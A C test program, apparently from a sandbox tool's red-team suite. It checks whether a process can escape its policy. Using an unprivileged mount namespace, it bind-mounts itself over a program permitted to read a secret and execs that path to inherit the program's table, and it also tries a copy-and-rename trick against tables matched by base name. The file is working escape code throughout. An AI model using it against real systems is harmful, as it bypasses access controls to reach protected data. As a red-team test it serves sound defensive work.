/* ns_program.c: a program's table claimed by a file mounted at its name (issue 11, red
 * team 3).
 *
 * A process takes, at exec, the table of the program it runs, and a task in a mount
 * namespace the tree made is decided by the names of that namespace.  So a program refused
 * the secret made a mount namespace of its own (through a user namespace: no privilege
 * needed), bound itself over a program whose table permits the secret, and exec'd that
 * name: it ran under the program's table, and read the secret.
 *
 *   ns_program bind user|root PROGRAM SECRET   bind this program over PROGRAM, exec PROGRAM:
 *                                              this program, in "read" mode, reads SECRET
 *   ns_program same user|root PROGRAM SECRET   in the same namespaces, exec PROGRAM itself
 *                                              (a child): it runs (ESCAPED: "it ran")
 *   ns_program copy DIR NAME SECRET            copy this program to DIR/NAME and exec it: a
 *                                              table found by base name (NAME.toml in the
 *                                              policy directory) is any NAME's
 *   (PROGRAM) read SECRET                      what runs in PROGRAM's place
 */
#include "attack.h"

#include <sched.h>
#include <sys/mount.h>

int main(int argc, char **argv) {
    if (argc == 3 && strcmp(argv[1], "read") == 0) {
        char buf[256];
        int fd = open(argv[2], O_RDONLY);
        ssize_t n = fd < 0 ? -1 : read(fd, buf, sizeof buf - 1);
        if (n > 0) {
            buf[n] = 0;
            if (strstr(buf, SECRET_MAGIC))
                escaped("read the secret as %s", argv[0]);
        }
        blocked("the secret, as %s: %s", argv[0], ename(errno));
    }
    if (argc == 5 && strcmp(argv[1], "copy") == 0) {
        char copy[4096], buf[65536];
        snprintf(copy, sizeof copy, "%s/%s", argv[2], argv[3]);
        int in = open("/proc/self/exe", O_RDONLY);
        int out = open(copy, O_WRONLY | O_CREAT | O_TRUNC, 0755);
        if (in < 0 || out < 0)
            blocked("copying to %s: %s", copy, ename(errno));
        ssize_t n;
        while ((n = read(in, buf, sizeof buf)) > 0)
            if (write(out, buf, (size_t)n) != n)
                blocked("writing %s: %s", copy, ename(errno));
        close(in);
        close(out);
        char *args[] = {copy, "read", argv[4], NULL};
        fflush(stdout);
        execv(copy, args);
        blocked("exec %s: %s", copy, ename(errno));
    }
    if (argc != 5)
        usage("ns_program bind|same user|root PROGRAM SECRET | copy DIR NAME SECRET");
    const char *mode = argv[1], *program = argv[3], *secret = argv[4];
    int flags = CLONE_NEWNS | (strcmp(argv[2], "user") == 0 ? CLONE_NEWUSER : 0);
    if (unshare(flags) < 0) {
        if (errno == EINVAL || errno == ENOSPC)
            skipped("unshare: %s", ename(errno));
        blocked("unshare: %s", ename(errno));
    }
    if (mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL) < 0)
        blocked("making mounts private: %s", ename(errno));
    fflush(stdout);
    if (strcmp(mode, "same") == 0) {
        pid_t pid = fork();
        if (pid == 0) {
            char *args[] = {(char *)program, NULL};
            execv(program, args);
            printf("note: exec %s: %s\n", program, ename(errno));
            _exit(111);
        }
        int status;
        waitpid(pid, &status, 0);
        if (WIFEXITED(status) && WEXITSTATUS(status) == 0)
            escaped("%s ran in the new namespaces", program);
        blocked("%s did not run (status %#x)", program, status);
    }
    char self[4096];
    ssize_t len = readlink("/proc/self/exe", self, sizeof self - 1);
    if (len <= 0)
        blocked("readlink /proc/self/exe: %s", ename(errno));
    self[len] = 0;
    if (mount(self, program, NULL, MS_BIND, NULL) < 0)
        blocked("binding over %s: %s", program, ename(errno));
    char *args[] = {(char *)program, "read", (char *)secret, NULL};
    execv(program, args);
    blocked("exec %s: %s", program, ename(errno));
}
